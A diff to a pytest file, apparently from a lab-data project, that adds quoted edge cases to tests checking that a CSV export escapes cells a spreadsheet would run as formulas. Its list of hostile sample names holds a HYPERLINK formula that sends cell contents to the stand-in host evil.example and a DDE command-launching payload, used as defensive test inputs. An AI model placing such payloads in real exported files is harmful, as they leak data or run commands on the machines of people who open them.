@@ -73,7 +73,8 @@ def test_export_refuses_to_overwrite_and_needs_a_key(stocked, tmp_path):
 
 
 HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+SrTiO3", "=cmd|' /C calc'!A0",
-                 "@SUM(1)", "\tTab start", "\rCR start", "-1.5", "-ve control"]
+                 "@SUM(1)", "\tTab start", "\rCR start", "-1.5", "-ve control",
+                 "'=quoted", "''double", "'plain"]
 
 
 @pytest.fixture
@@ -94,7 +95,8 @@ def test_csv_cells_a_spreadsheet_would_run_are_guarded(hostile, tmp_path):
     with path.open(encoding="utf-8-sig", newline="") as handle:
         rows = list(csv.DictReader(handle))
     names = [r["sample_name"] for r in rows]
-    assert names == ["'" + n for n in HOSTILE_NAMES[:6]] + ["-1.5", "'-ve control"]
+    assert names == ["'" + n for n in HOSTILE_NAMES[:6]] + [
+        "-1.5", "'-ve control", "''=quoted", "''double", "'plain"]
     assert {r["orientation"] for r in rows} == {"-110"}  # Miller indices stay as they are
     for row in rows:  # nothing in the file starts a formula any more
         assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
@@ -106,6 +108,8 @@ def test_csv_cells_a_spreadsheet_would_run_are_guarded(hostile, tmp_path):
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("-x", "'-x"), ("-", "'-"),
     ("-110", "-110"), ("-1-10", "-1-10"), ("1-10", "1-10"), ("-1.5", "-1.5"), ("+3", "+3"),
     ("-2e5", "-2e5"), ("-inf", "'-inf"), ("SrTiO3", "SrTiO3"), ("", ""), (12, 12),
+    ("'=x", "''=x"), ("''=x", "'''=x"), ("'-110", "''-110"), ("'a", "'a"), ("''a", "''a"),
+    ("'", "'"), ("''", "''"),
 ])
 def test_csv_safe(value, written):
     from layer_sync.templates import csv_safe
